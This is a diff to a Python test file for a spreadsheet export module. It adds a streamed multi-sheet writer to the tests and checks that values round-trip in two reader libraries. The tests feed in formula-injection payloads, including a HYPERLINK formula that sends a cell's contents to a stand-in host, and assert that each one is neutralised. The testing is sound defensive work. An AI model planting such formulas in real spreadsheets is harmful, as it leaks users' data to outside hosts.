@@ -16,13 +16,14 @@ import pytest
 from conftest import TestDb
 from hypothesis import given
 from hypothesis import strategies as st
+from python_calamine import CalamineWorkbook
 from sqlalchemy import event, select
 from sqlalchemy.orm import Session
 
 from jd_admin.domain.errors import InvalidInput, PermissionDenied
 from jd_admin.models import Agreement, AuditEvent, Role, Subdistrict, Venue, VenueSport
 from jd_admin.reports.register_xlsx import HEADERS, SHEET_TITLE
-from jd_admin.reports.xlsx import FORMULA_TRIGGERS, safe_cell, write_table
+from jd_admin.reports.xlsx import FORMULA_TRIGGERS, Sheet, safe_cell, write_sheets, write_table
 from jd_admin.services import clock
 from jd_admin.services.actor import Actor
 from jd_admin.services.register.export import export_register, register_entries, to_geojson
@@ -102,11 +103,16 @@ def test_safe_cell_passes_other_types_and_drops_illegal_characters() -> None:
     assert safe_cell("a\x00b\x1fc") == "abc"
 
 
-def test_write_table_never_writes_a_formula(tmp_path: Path) -> None:
+def write_big(path: Path, title: str, headers: list[str], rows: list[tuple[object, ...]]) -> None:
+    write_sheets(path, [Sheet(title, headers, rows, (30, None))])
+
+
+@pytest.mark.parametrize("writer", [write_table, write_big])
+def test_write_table_never_writes_a_formula(tmp_path: Path, writer) -> None:
     nasty = [t + 'HYPERLINK("http://x/?"&A1,"click")' for t in FORMULA_TRIGGERS]
     nasty += ["=1+1", "@SUM(A1)", "-2+3", "+86 138", "\t=1", "\r=1", "= 1"]
     path = tmp_path / "t.xlsx"
-    write_table(path, "t", ["值", "金额"], [(text, Decimal("1.50")) for text in nasty])
+    writer(path, "t", ["值", "金额"], [(text, Decimal("1.50")) for text in nasty])
     ws = openpyxl.load_workbook(path).active
     assert ws.freeze_panes == "A2"
     assert ws["A1"].font.b
@@ -116,6 +122,43 @@ def test_write_table_never_writes_a_formula(tmp_path: Path) -> None:
     assert [ws.cell(row=i + 2, column=1).value for i in range(len(nasty))] == [
         "'" + t.replace("\r", "\n") for t in nasty]
     assert ws["B2"].value == 1.5 and ws["B2"].number_format == "0.00"
+
+
+def test_the_streamed_workbook_reads_back_in_openpyxl_and_calamine(tmp_path: Path) -> None:
+    """write_sheets (several streamed sheets, for 80,000-row exports): every kind of value
+    comes back as written, in both readers the program uses, on every sheet."""
+    rows: list[tuple[object, ...]] = [
+        (1, "a & b <c> \"d\"", Decimal("1234.56"), dt.datetime(2026, 10, 3, 14, 15),
+         dt.date(2026, 10, 31), None),
+        (2, "  前后有空格 ", Decimal("-0.50"), dt.datetime(2026, 1, 1), dt.date(2000, 2, 29),
+         2.5),
+        (3, "=SUM(A1)", Decimal(7), None, None, True),
+    ]
+    path = tmp_path / "big.xlsx"
+    headers = ["号", "文本", "金额", "时间", "日期", "其他"]
+    write_sheets(path, [Sheet("第一页", headers, rows, (6, 30, 12, 18, 12, None)),
+                        Sheet("第二页 & more", headers[:2], iter([(9, "二")]))])
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["第一页", "第二页 & more"]
+    ws = wb["第一页"]
+    assert ws.freeze_panes == "A2" and ws["A1"].font.b and not ws["A2"].font.b
+    assert ws.column_dimensions["B"].width == 30
+    values = [tuple(c.value for c in row) for row in ws.iter_rows(min_row=2)]
+    assert values == [
+        (1, "a & b <c> \"d\"", 1234.56, dt.datetime(2026, 10, 3, 14, 15),
+         dt.datetime(2026, 10, 31), None),
+        (2, "  前后有空格 ", -0.5, dt.datetime(2026, 1, 1), dt.datetime(2000, 2, 29), 2.5),
+        (3, "'=SUM(A1)", 7, None, None, True)]
+    assert [ws[f"{c}2"].number_format for c in "CDE"] == [
+        "0.00", "yyyy-mm-dd hh:mm", "yyyy-mm-dd"]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+    assert [c.value for c in wb["第二页 & more"][2]] == [9, "二"]
+    book = CalamineWorkbook.from_path(str(path))
+    table = book.get_sheet_by_name("第一页").to_python()
+    assert table[1][:4] == [1.0, "a & b <c> \"d\"", 1234.56, dt.datetime(2026, 10, 3, 14, 15)]
+    assert table[2][1] == "  前后有空格 " and table[3][1] == "'=SUM(A1)"
+    with pytest.raises(TypeError, match="timezones"):  # local times only
+        write_sheets(tmp_path / "aware.xlsx", [Sheet("x", ["t"], [(dt.datetime.now(dt.UTC),)])])
 
 
 # --- the register --------------------------------------------------------------------------
